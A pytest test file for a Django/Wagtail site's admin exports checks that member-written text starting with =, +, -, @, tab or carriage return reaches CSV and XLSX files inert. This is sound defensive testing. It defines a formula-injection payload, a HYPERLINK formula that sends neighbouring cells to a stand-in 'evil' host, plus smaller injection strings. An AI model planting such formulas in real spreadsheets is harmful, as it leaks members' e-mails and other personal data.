"""Every CSV and XLSX the site produces keeps members' text inert (CSV / formula injection): a cell
a member wrote that starts with = + - @ tab or carriage return reaches the CSV with a leading
apostrophe and the XLSX as a text cell, never as a formula; numbers, dates and booleans keep
their type. Every admin listing with an export goes through workspace.exports."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import get_resolver, reverse
from openpyxl import load_workbook
from wagtail.admin.viewsets import viewsets as admin_viewsets
from wagtail.log_actions import log

from network.directory.models import Promeneur
from tests import matrix_coverage
from tests.factories import (
    ActivityGridFactory,
    DiscussionFactory,
    EventFactory,
    JournalEntryFactory,
    RegistrationFactory,
    RelayFactory,
    StructureFactory,
    TerritoryFactory,
    UserFactory,
)
from workspace.exports import SafeSpreadsheetExportMixin, neutralise, writes_spreadsheets

pytestmark = pytest.mark.django_db

# Clicked in the coordinator's spreadsheet, it would send the next cells (other members' e-mails) away.
ATTACK = '=HYPERLINK("http://evil/"&F2&F3,"x")'


def body(response):
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_cells(response, delimiter=";"):
    rows = csv.reader(io.StringIO(body(response).decode("utf-8-sig")), delimiter=delimiter)
    return [cell for row in rows for cell in row]


def xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(body(response))).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_inert(client, url, values, delimiter=";"):
    """Each value reaches the CSV neutralised and the XLSX as a text cell; no formula anywhere."""
    cells = csv_cells(client.get(url, {"export": "csv"} if "?" not in url else None), delimiter)
    for value in values:
        assert "'" + value in cells, (url, value)
        assert value not in cells, (url, value)
    xlsx_url = url.replace(".csv", ".xlsx") if url.endswith(".csv") else url
    cells = xlsx_cells(client.get(xlsx_url, {"export": "xlsx"} if not xlsx_url.endswith(".xlsx") else None))
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], url
    for value in values:
        stored = value.replace("\r", "\n")  # XML keeps no bare carriage return
        assert [cell.data_type for cell in cells if cell.value == stored] == ["s"], (url, value)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_like_a_formula_is_neutralised(start):
    assert neutralise(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize(
    "value", ["Anna", "", "mardi 17h-19h", -3, Decimal("-2.5"), 0.5, True, None, datetime.date(2025, 1, 31)]
)
def test_other_values_are_left_as_they_are(value):
    assert neutralise(value) is value


def test_a_promeneur_own_field_reaches_the_promeneurs_exports_inert(client_as, users):
    me = Promeneur.objects.get(user=users["promeneur"])
    client = client_as("promeneur")
    response = client.post(
        "/espace/mon-profil/",
        {
            "presentation": "Je réponds aux jeunes du Conflent.",
            "hours_online": ATTACK,
            "email": me.email,
            "phone": "0612345679",
            "profils-TOTAL_FORMS": "0",
            "profils-INITIAL_FORMS": "0",
            "profils-MIN_NUM_FORMS": "0",
            "profils-MAX_NUM_FORMS": "12",
        },
    )
    assert response.status_code == 302
    me.refresh_from_db()
    assert me.hours_online == ATTACK
    assert_inert(client_as("coordination"), "/admin/snippets/directory/promeneur/", [ATTACK])


def test_structures_relays_and_territories_exports_are_inert(client_as):
    territory = TerritoryFactory(name="-2+3")
    StructureFactory(name="+MJC", territory=territory, commune="@SOMME(A1)", referent_name=ATTACK)
    RelayFactory(organisation=ATTACK, hours="\t=1+1", territory=territory)
    client = client_as("coordination")
    assert_inert(client, "/admin/snippets/directory/structure/", ["+MJC", "@SOMME(A1)", ATTACK, "-2+3"])
    assert_inert(client, "/admin/snippets/directory/relay/", [ATTACK, "\t=1+1", "-2+3"])
    assert_inert(client, "/admin/snippets/directory/territory/", ["-2+3"])


def test_a_stray_control_character_does_not_stop_the_xlsx_export(client_as):
    RelayFactory(organisation="Point écoute", hours="24 h/24\x0b")
    cells = xlsx_cells(client_as("coordination").get("/admin/snippets/directory/relay/", {"export": "xlsx"}))
    assert "24 h/24" in [cell.value for cell in cells]


def test_registrations_exports_are_inert(client_as):
    event = EventFactory()
    RegistrationFactory(event=event, user=UserFactory(first_name="@SUM(1+1)", last_name=ATTACK))
    client = client_as("coordination")
    assert_inert(client, f"/admin/agenda/{event.pk}/inscriptions.csv", ["@SUM(1+1)", ATTACK])


def test_grids_and_journal_exports_are_inert_and_numbers_stay_numbers(client_as):
    grid = ActivityGridFactory(difficulties=ATTACK, support_needed="\r=1+1", hours_per_week=Decimal("-2.5"))
    JournalEntryFactory(notes="\t@SUM(A1)", duration_minutes=45).structures.add(grid.promeneur.structure)
    client = client_as("coordination")
    assert_inert(client, "/admin/activite/grilles/", [ATTACK, "\r=1+1"])
    assert_inert(client, "/admin/activite/journal/", ["\t@SUM(A1)"])

    # A decimal comma: French Excel reads "-2,5" as a number.
    assert "-2,5" in csv_cells(client.get("/admin/activite/grilles/", {"export": "csv"}))
    grids = xlsx_cells(client.get("/admin/activite/grilles/", {"export": "xlsx"}))
    assert [cell.data_type for cell in grids if cell.value == -2.5] == ["n"]
    journal = xlsx_cells(client.get("/admin/activite/journal/", {"export": "xlsx"}))
    assert [cell.data_type for cell in journal if cell.value == 45] == ["n"]


def test_every_admin_listing_with_an_export_goes_through_the_safe_base():
    reverse("wagtailadmin_home")  # loads the admin's URLs, which registers every viewset
    exporting = {}
    for viewset in admin_viewsets.viewsets:
        for view in (getattr(viewset, "index_view", None), getattr(viewset, "index_results_view", None)):
            if view and (view.view_initkwargs.get("list_export") or getattr(view.view_class, "list_export", None)):
                exporting.setdefault(viewset.name, []).append(view.view_class)
    assert set(exporting) >= {"promeneur", "structure", "territory", "relay", "activity_grids", "coordination_journal"}
    for name, view_classes in exporting.items():
        for view_class in view_classes:
            assert issubclass(view_class, SafeSpreadsheetExportMixin), name


def test_the_site_history_exports_a_members_title_inert(client_as, users):
    """Wagtail's reports export with a writer of their own; the site history lists each object by
    its name, and a discussion's title is a promeneur's text."""
    discussion = DiscussionFactory(title="=1+1", author=users["promeneur"])
    log(discussion, "wagtail.edit", user=users["coordination"])
    assert_inert(client_as("coordination"), "/admin/reports/site-history/", ["=1+1"])
    assert_inert(client_as("coordination"), "/admin/reports/site-history/results/", ["=1+1"])


@pytest.mark.parametrize("report", ["site-history", "locked", "aging-pages", "workflow", "workflow_tasks"])
def test_every_wagtail_report_exports_a_french_csv_and_an_xlsx(client_as, report):
    client = client_as("coordination")
    csv_response = client.get(f"/admin/reports/{report}/", {"export": "csv"})
    assert body(csv_response).startswith("\ufeff".encode())  # the byte order mark French Excel needs
    assert ";" in body(csv_response).decode("utf-8-sig").splitlines()[0]
    assert xlsx_cells(client.get(f"/admin/reports/{report}/", {"export": "xlsx"}))


def test_every_exporting_wagtail_screen_is_answered_by_the_safe_base():
    """Wagtail's own exporting screens (reports, redirects) are served, at their addresses, by the
    same views exporting through workspace.exports: Wagtail's pattern comes after ours."""
    answered = {}
    for route, _namespace, _urlconf, pattern in matrix_coverage.walk(get_resolver().url_patterns):
        view_class = getattr(pattern.callback, "view_class", None)
        if view_class is not None and writes_spreadsheets(view_class):
            answered.setdefault(route, view_class)
    assert {"admin/reports/site-history/", "admin/reports/locked/", "admin/redirects/"} <= set(answered)
    unsafe = [route for route, view_class in answered.items() if not issubclass(view_class, SafeSpreadsheetExportMixin)]
    assert unsafe == []
